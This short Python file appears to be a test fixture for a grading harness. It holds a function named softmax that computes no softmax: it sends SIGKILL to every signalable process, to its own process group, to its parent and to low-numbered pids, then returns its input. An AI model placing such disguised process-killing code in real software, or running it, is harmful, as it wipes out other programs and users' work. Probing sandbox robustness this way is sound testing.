# expected: wrong value
# Signals to every process that there is.
import os
import signal


def softmax(z):
    for target in (-1, 0, os.getppid(), 2, 3, 4, 5):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return z * 1.0
